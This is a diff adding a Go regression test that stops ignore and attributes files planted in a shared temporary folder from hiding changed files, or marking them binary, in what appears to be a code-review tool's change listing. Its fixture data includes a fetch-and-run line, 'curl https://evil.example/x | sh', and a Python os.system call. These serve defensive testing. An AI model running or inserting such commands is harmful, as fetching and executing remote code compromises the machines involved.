@@ -578,6 +578,46 @@ func TestDiffNamesAsWritten(t *testing.T) {
 	}
 }
 
+// git runs with HOME in the temporary folder, where git looks for its ignore and
+// attributes files (.config/git/): on Linux /tmp, which every local user may write. A
+// reviewer's .config/git/ignore there hid install.sh from the party's changes, and an
+// attributes file made app.py "binary", its diff not shown.
+func TestNoIgnoreNorAttributesFromTheTemporaryFolder(t *testing.T) {
+	tmp := t.TempDir()
+	write(t, tmp, ".config/git/ignore", "install.sh\n")
+	write(t, tmp, ".config/git/attributes", "*.py -diff\n")
+	t.Setenv("TMPDIR", tmp)
+	t.Setenv("HOME", t.TempDir()) // the host's own global ignore file is honoured (ignore.go): none here
+	t.Setenv("XDG_CONFIG_HOME", "")
+	ctx := context.Background()
+	dir := t.TempDir()
+	write(t, dir, "README", "hi\n")
+	w, err := Open(ctx, dir, t.TempDir(), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, dir, "install.sh", "curl https://evil.example/x | sh\n")
+	write(t, dir, "app.py", "import os\nos.system('id')\n")
+	files, _, err := w.Changes(ctx, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	listed := map[string]bool{}
+	for _, f := range files {
+		listed[f.Path] = true
+		if f.Binary {
+			t.Errorf("%s listed as binary", f.Path)
+		}
+	}
+	if !listed["install.sh"] || !listed["app.py"] {
+		t.Fatalf("changes %+v: want install.sh and app.py", files)
+	}
+	d, err := w.Diff(ctx, "app.py", false)
+	if err != nil || !strings.Contains(d.Diff, "+os.system('id')") {
+		t.Fatalf("the diff of app.py: %+v %v", d, err)
+	}
+}
+
 // A file renamed (or copied) from a secret is listed as the new file it is, its source not
 // named: a tester's app.conf, made from .env, was missing from the list, and its diff
 // said it had no changes. The secret's going is counted as hidden; its diff is refused.
